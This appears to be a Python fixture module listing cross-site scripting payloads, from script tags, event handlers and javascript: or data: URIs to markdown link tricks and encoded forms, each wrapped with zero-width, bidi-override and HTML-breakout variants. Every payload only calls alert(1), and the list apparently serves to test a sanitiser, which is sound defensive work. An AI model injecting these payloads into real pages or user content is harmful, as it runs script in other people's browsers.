"""What somebody might send to have it run in another person's browser. Whatever runs calls alert."""

BASES = """
<script>alert(1)</script>
<script src=data:text/javascript,alert(1)></script>
<img src=x onerror=alert(1)>
<img/src/onerror=alert(1)>
<img src="x" onerror="alert(1)" style="position:fixed">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#115;cript:alert(1)" onclick=alert(1)>x</a>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<input autofocus onfocus=alert(1)>
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction=javascript:alert(1)>x</button>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="javascript:alert(1)//">
<link rel=stylesheet href="data:text/css,*{}">
<style>@import 'data:text/css,*{}';</style>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<x onclick=alert(1) tabindex=1 id=x autofocus onfocus=alert(1)>x</x>
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
javascript:alert(1)
JaVaScRiPt:alert(1)
java\tscript:alert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:alert(1)
[x](javascript:alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
![x](javascript:alert(1))
![x" onerror="alert(1)](https://a.example)
[x](https://a.example "x\\" onmouseover=alert(1)")
[<img src=x onerror=alert(1)>](https://a.example)
<https://a.example/"onclick=alert(1)>
{{constructor.constructor('alert(1)')()}}
${alert(1)}
`;alert(1)//
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
&lt;script&gt;alert(1)&lt;/script&gt;
%3Cscript%3Ealert(1)%3C/script%3E
""".strip().splitlines()

REORDERED = ("\u202e", "\u2066", "\u2067", "\u202b")

WRAPPERS = (
    "{0}",
    "**{0}",
    "x\u0000{0}\u0000".replace("\u0000", "\u200b"),
    "</p></div>{0}<p",
    f"{REORDERED[0]}{{0}}{REORDERED[1]}",
)

PAYLOADS = [wrapper.replace("{0}", base) for wrapper in WRAPPERS for base in BASES]
